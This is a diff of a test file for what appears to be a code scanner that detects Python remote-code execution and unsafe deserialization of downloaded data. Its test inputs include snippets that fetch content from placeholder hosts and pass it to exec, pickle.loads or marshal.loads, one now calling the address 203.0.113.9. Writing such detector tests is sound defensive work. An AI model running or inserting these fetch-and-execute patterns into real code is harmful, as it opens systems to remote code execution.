@@ -50,7 +50,7 @@ test('remote_code_eval (JS) honest twins: JSON.parse of a response, eval of a co
 test('remote_code_eval / deserialize_fetched (Python): exec of a response, pickle / marshal loads of a download', () => {
   assert.equal(py('import requests\nr = requests.get("https://x.example/p", stream=True)\ncode = b"".join(r.iter_content(1024))\nexec(code)\n'), ['remote_code_eval']);
   assert.equal(py('import pickle, urllib.request\ndata = urllib.request.urlopen("https://x.example/o").read()\nobj = pickle.loads(data)\n'), ['deserialize_fetched']);
-  assert.equal(py('import marshal, requests\nexec(marshal.loads(requests.get(u).content))\n').sort(), ['deserialize_fetched', 'remote_code_eval']);
+  assert.equal(py('import marshal, requests\nexec(marshal.loads(requests.get("http://203.0.113.9/p").content))\n').sort(), ['deserialize_fetched', 'remote_code_eval']);
   assert.equal(py('import json, requests\ncfg = json.loads(requests.get(u).text)\nexec(open("version.py").read())\n'), []);
 });
 
